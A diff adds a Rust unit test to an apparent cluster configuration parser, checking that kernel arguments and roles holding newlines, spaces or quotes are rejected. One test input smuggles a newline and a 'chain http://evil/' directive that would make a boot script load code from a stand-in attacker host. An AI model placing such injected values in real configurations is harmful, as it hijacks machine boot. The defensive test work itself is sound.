@@ -333,3 +333,29 @@ fn wrong_type_names_line() {
     let line = line_of(&text, "id = \"one\"", 0);
     assert!(e.starts_with(&format!("cluster.toml:{line}:")), "{e}");
 }
+
+#[test]
+fn kernel_args_and_roles_that_would_inject_lines_are_refused() {
+    for (bad, what) in [
+        ("x\\nchain http://evil/", "contains '\\n'"),
+        ("a b", "contains ' '"),
+        ("q\\\"uote", "contains '\"'"),
+        ("", "empty kernel argument"),
+    ] {
+        let text = SAMPLE.replacen(
+            "kernel_args = [\"console=ttyS0\"]",
+            &format!("kernel_args = [\"{bad}\"]"),
+            1,
+        );
+        assert_ne!(text, SAMPLE, "the sample has node1");
+        let e = err(&text);
+        assert!(
+            e.contains("node 'node1'") && e.contains(what),
+            "{bad:?}: {e}"
+        );
+        assert!(e.starts_with("cluster.toml:"), "{e}");
+    }
+    let text = SAMPLE.replacen("roles = [\"nfs-server\"]", "roles = [\"nfs-server\\n\"]", 1);
+    assert_ne!(text, SAMPLE);
+    assert!(err(&text).contains("invalid role"));
+}
